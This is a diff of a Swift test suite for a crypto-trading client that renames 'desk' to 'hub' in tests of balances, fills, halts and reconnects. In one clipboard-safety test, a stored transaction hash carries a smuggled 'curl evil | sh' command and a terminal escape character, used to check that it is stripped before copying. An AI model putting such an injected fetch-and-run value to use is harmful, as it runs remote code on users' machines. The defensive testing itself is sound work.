@@ -18,17 +18,17 @@ import Trading
     #"[{"asset":"ETH","total":"2.5","locked":"0.5"},{"asset":"BTC","total":"1"}]"#
   nonisolated private static let estimate = EstimateSwap(from: "ETH", to: "USDT", amount: "0.1")
 
-  /// Runs `body` with a desk that is signed in to such a server.
+  /// Runs `body` with a hub that is signed in to such a server.
   private func with(
-    ledger: Store? = nil, _ body: (Bench, ScriptedMarket, Desk) async throws -> Void
+    ledger: Store? = nil, _ body: (Bench, ScriptedMarket, AccountHub) async throws -> Void
   ) async throws {
     try await Bench.run { bench in
       let market = try ScriptedMarket(network: bench.network, balances: Self.rows)
-      let desk = bench.desk(ledger: ledger) { $0[.trading].url = market.url }
-      try await desk.only(SignIn.toTrading(key: "sandbox-key", secret: Secret("sandbox-secret")))
+      let hub = bench.hub(ledger: ledger) { $0[.trading].url = market.url }
+      try await hub.only(SignIn.toTrading(key: "sandbox-key", secret: Secret("sandbox-secret")))
       let outcome: Result<Void, any Error>
       do {
-        outcome = .success(try await body(bench, market, desk))
+        outcome = .success(try await body(bench, market, hub))
       } catch {
         outcome = .failure(error)
       }
@@ -39,8 +39,8 @@ import Trading
 
   @Test("Amounts that cannot be read are told as they were: older, and marked")
   func unreadableAmounts() async throws {
-    try await with { bench, market, desk in
-      let console = ModelBench(bench, desk: desk)
+    try await with { bench, market, hub in
+      let console = ModelBench(bench, hub: hub)
       try await console.until("balances") { $0.balances.rows.count == 2 }
       let before = bench.time.wallTime
       bench.time.advance(by: .seconds(5))
@@ -57,51 +57,51 @@ import Trading
       #expect((moments["BTC"] ?? 0) > before)
 
       market.set(balances: #"[{"asset":"ETH","total":""},{"asset":"BTC","total":"3"}]"#)
-      let lines = try await desk.lines(of: ListBalances())
+      let lines = try await hub.lines(of: ListBalances())
       let ether = try #require(lines.first { $0.asset == "ETH" })
       #expect((ether.total, ether.unreadable) == ("2.5", true))
       let bitcoin = try #require(lines.first { $0.asset == "BTC" })
       #expect((bitcoin.total, bitcoin.unreadable) == ("3", nil))
       market.set(balances: #"[{"asset":"SOL","total":null}]"#)
-      #expect(try await desk.failure(of: ListBalances()).code == "malformed")
+      #expect(try await hub.failure(of: ListBalances()).code == "malformed")
     }
   }
 
   @Test("A fill below what was confirmed is said, and so is one whose amount nobody knows")
   func fills() async throws {
-    try await with { bench, market, desk in
+    try await with { bench, market, hub in
       func swap(_ id: String) -> PlaceSwap {
         PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: id)
       }
       let end = #""status":"FILLED","txHash":"0xabc","updatedAt":5"#
       market.set("swap", order: "ord_1", end + #","filledOut":"1""#)
-      #expect(try await desk.failure(of: swap("less")).code == "below-minimum")
+      #expect(try await hub.failure(of: swap("less")).code == "below-minimum")
       market.set("swap", order: "ord_2", end + #","filledOut":"100""#)
-      #expect(try await desk.only(swap("enough")).filledOut == "100")
+      #expect(try await hub.only(swap("enough")).filledOut == "100")
       market.set("swap", order: "ord_3", end)
       market.set("order_status", order: "ord_3", end)
-      let remark = try await desk.failure(of: swap("unknown"))
+      let remark = try await hub.failure(of: swap("unknown"))
       #expect(remark.code == "amount-unknown" && remark.isRemark == true)
     }
   }
 
   @Test("Why an order failed is kept, in the server's words")
   func reasons() async throws {
-    try await with { bench, market, desk in
+    try await with { bench, market, hub in
       market.set("swap", order: "ord_1", #""status":"PENDING""#)
       market.set(
         "order_status", order: "ord_1",
         #""status":"FAILED","reason":"no liquidity","updatedAt":5"#)
-      try await desk.only(PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: "mine"))
+      try await hub.only(PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: "mine"))
       await bench.time.release(.seconds(5))
-      #expect(try await desk.order("mine", "FAILED").reason == "no liquidity")
-      #expect(try await desk.only(ShowOrder(id: "mine")).reason == "no liquidity")
+      #expect(try await hub.order("mine", "FAILED").reason == "no liquidity")
+      #expect(try await hub.only(ShowOrder(id: "mine")).reason == "no liquidity")
     }
   }
 
   @Test("A filled order without its amount is asked about again, also after a restart")
   func lateAmounts() async throws {
-    try await with { bench, market, desk in
+    try await with { bench, market, hub in
       func keep(_ id: String, _ orderId: String) async throws {
         let order = OrderRecord(
           clientOrderId: id, orderId: orderId, status: .filled, from: "ETH", to: "USDT",
@@ -110,12 +110,12 @@ import Trading
         market.set(
           "order_status", order: orderId, #""status":"FILLED","filledOut":"3","updatedAt":5"#)
       }
-      _ = try await desk.lines(of: ListBalances())
+      _ = try await hub.lines(of: ListBalances())
       try await keep("asked", "ord_1")
-      #expect(try await desk.only(ShowOrder(id: "asked")).filledOut == "3")
+      #expect(try await hub.only(ShowOrder(id: "asked")).filledOut == "3")
       try await keep("followed", "ord_2")
-      await desk.close()
-      let next = bench.desk { $0[.trading].url = market.url }
+      await hub.close()
+      let next = bench.hub { $0[.trading].url = market.url }
       _ = try await next.lines(of: ListBalances())
       let found = try await next.eventually("the amount") {
         try await bench.store.orders.order("followed")?.filledOut
@@ -127,15 +127,15 @@ import Trading
   @Test("A halt that cannot be written down holds all the same, and says so")
   func haltOnAFullDisk() async throws {
     let ledger = try Store.inMemory()
-    try await with(ledger: ledger) { bench, market, desk in
+    try await with(ledger: ledger) { bench, market, hub in
       let swap = PlaceSwap(Self.estimate, slippageBps: 30, clientOrderId: "mine")
       // As on a full disk: what is there can be read, and nothing is taken.
       try await ledger.refuseEntries(true)
-      let failure = try await desk.failure(of: SetHalt(isHalted: true))
+      let failure = try await hub.failure(of: SetHalt(isHalted: true))
       #expect(failure.code == "halt-not-kept" && failure.message.contains(Phrase.haltNotKept.text))
       try await ledger.refuseEntries(false)
       #expect(try await ledger.settings.value(.halt) == nil)
-      #expect(try await desk.failure(of: swap).code == "halted")
+      #expect(try await hub.failure(of: swap).code == "halted")
     }
   }
 
@@ -151,10 +151,10 @@ import Trading
         }
       }
     }
-    try await with { bench, market, desk in
-      await desk.close()
-      let next = bench.desk(recorder: FullRecorder()) { $0[.trading].url = market.url }
-      let console = ModelBench(bench, desk: next)
+    try await with { bench, market, hub in
+      await hub.close()
+      let next = bench.hub(recorder: FullRecorder()) { $0[.trading].url = market.url }
+      let console = ModelBench(bench, hub: next)
       try await console.until("a notice") { screen in
         screen.notices.contains { $0.text == "session.jsonl cannot be written" }
       }
@@ -163,21 +163,21 @@ import Trading
 
   @Test("After a login that worked a refusal is waited out; R dials then, and after the end too")
   func refusedLater() async throws {
-    try await with { bench, market, desk in
-      await desk.close()
+    try await with { bench, market, hub in
+      await hub.close()
       market.set(closed: true)
-      let second = ModelBench(bench, desk: bench.desk { $0[.trading].url = market.url })
+      let second = ModelBench(bench, hub: bench.hub { $0[.trading].url = market.url })
       try await second.until("a pause") {
         if case .waiting = $0.lamp(.trading) { true } else { false }
       }
       market.set(closed: false)
       second.press(.character("R"))
       try await second.until("online") { $0.lamp(.trading) == .online }
-      await second.model.context.desk.close()
+      await second.model.context.hub.close()
 
       let works = #"{"op":"auth","data":{"status":"authenticated"}}"#
       market.set("auth", #"{"error":"Invalid API key"}"#)
-      let third = ModelBench(bench, desk: bench.desk { $0[.trading].url = market.url })
+      let third = ModelBench(bench, hub: bench.hub { $0[.trading].url = market.url })
       try await third.until("its end") {
         if case .stopped = $0.lamp(.trading) { true } else { false }
       }
@@ -189,13 +189,13 @@ import Trading
 
   @Test("Of a stored hash nothing reaches the clipboard that a terminal would obey")
   func copiedHash() async throws {
-    try await with { bench, _, desk in
+    try await with { bench, _, hub in
       let order = OrderRecord(
         clientOrderId: "mine", orderId: "ord_1", status: .filled, from: "ETH", to: "USDT",
         amount: "1", slippageBps: 30, filledOut: "3", txHash: "0x1\ncurl evil | sh\u{1b}",
         createdAt: 1)
       try await bench.store.orders.record(order, [])
-      let console = ModelBench(bench, desk: desk)
+      let console = ModelBench(bench, hub: hub)
       try await console.until("the order") { !$0.orders.rows.isEmpty }
       var copied: [String] = []
       console.model.context.program.copy = { copied.append($0) }
